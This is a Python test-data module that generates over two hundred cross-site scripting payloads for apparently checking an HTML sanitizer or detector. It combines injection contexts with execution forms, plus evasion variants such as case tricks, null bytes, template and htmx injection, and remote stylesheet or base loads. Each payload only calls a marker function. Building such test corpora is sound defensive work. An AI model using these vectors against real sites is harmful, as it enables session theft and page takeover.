"""Over two hundred of them, all ours: ways into a page, times what would run there.

Each calls `hit(n)` if it runs, and carries the attribute or the name `xq` if it becomes part of a page.
"""

from itertools import product

RUNS = (
    "hit({n})", "top.hit({n})", "self['hit']({n})", "(hit)({n})", "hit?.({n})", "hit`{n}`", "eval('hit({n})')",
    "setTimeout('hit({n})')", "import('data:text/javascript,hit({n})')", "Function('hit({n})')()",
)  # fmt: skip
WAYS = (
    "<script xq>{run}</script>",
    "</script><script xq>{run}</script>",
    "<img xq src=x onerror={run}>",
    '"><img xq src=x onerror="{run}">',
    "'><svg xq onload={run}>",
    "<svg xq><script>{run}</script></svg>",
    '" xq autofocus onfocus="{run}',
    "' xq autofocus onfocus='{run}",
    '<a xq href="javascript:{run}">go</a>',
    '<iframe xq srcdoc="<script>{run}</script>"></iframe>',
    "<body xq onload={run}>",
    "<details xq open ontoggle={run}>",
    "<input xq autofocus onfocus={run}>",
    '<form xq action="javascript:{run}"><button>x',
    '<object xq data="javascript:{run}"></object>',
    "<math xq><mtext><img src=x onerror={run}></mtext></math>",
    "</title><script xq>{run}</script>",
    "</textarea><script xq>{run}</script>",
    "</style><script xq>{run}</script>",
    "--><script xq>{run}</script><!--",
)
ODD = (
    "<ScRiPt xq>hit({n})</sCrIpT>",
    "<scr\0ipt xq>hit({n})</scr\0ipt>",
    "<img xq/src='x'/onerror='hit({n})'>",
    "<svg/xq/onload=hit({n})//",
    "{{% load x %}}{{{{ hit.{n} }}}}<b xq>",
    "{{{{constructor.constructor('hit({n})')()}}}}<b xq>",
    "<div xq hx-get=/ hx-trigger=load hx-on::load=hit({n})>",
    "<div xq hx-vals='js:{{x:hit({n})}}' hx-get=/ hx-trigger=load>",
    "<meta xq http-equiv=refresh content='0;url=javascript:hit({n})'>",
    "<base xq href='//elsewhere.invalid/'>",
    "<link xq rel=stylesheet href='//elsewhere.invalid/{n}.css'>",
    "<style xq>@import '//elsewhere.invalid/{n}'</style>",
    "\u2028<script xq>hit({n})</script>",
    "&lt;script xq&gt;hit({n})&lt;/script&gt;",
    "%3Cscript xq%3Ehit({n})%3C/script%3E",
    "＜script xq＞hit({n})＜/script＞",
)


def payloads() -> list[str]:
    made = [way.replace("{run}", run) for way, run in product(WAYS, RUNS)]
    made = [text.replace("{n}", str(n)) for n, text in enumerate(made)]
    return made + [text.format(n=n) for n, text in enumerate(ODD, start=len(made))]
